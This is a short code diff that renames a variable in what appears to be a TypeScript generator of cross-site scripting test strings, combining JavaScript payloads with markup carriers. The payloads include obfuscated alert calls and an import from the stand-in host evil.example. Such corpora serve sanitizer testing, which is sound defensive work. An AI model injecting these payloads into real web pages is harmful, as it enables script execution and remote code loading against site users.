@@ -4,7 +4,7 @@
  */
 
 /** What an intruder wants to happen. */
-const deeds = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'self[`alert`](1)', 'import("//evil.example")']
+const payloads = ['alert(1)', 'alert`1`', "top['al'+'ert'](1)", 'self[`alert`](1)', 'import("//evil.example")']
 
 /** Ways to make markup do it. */
 const carriers: ((deed: string) => string)[] = [
@@ -91,7 +91,7 @@ const plain = [
 export const scriptStrings: readonly string[] = [
   ...new Set([
     ...plain,
-    ...carriers.flatMap((carrier) => deeds.map((deed) => carrier(deed))),
+    ...carriers.flatMap((carrier) => payloads.map((deed) => carrier(deed))),
     ...carriers.flatMap((carrier) => exits.map((exit) => exit + carrier('alert(1)'))),
   ]),
 ].filter((text) => text.length <= 160 && text.trim() === text)
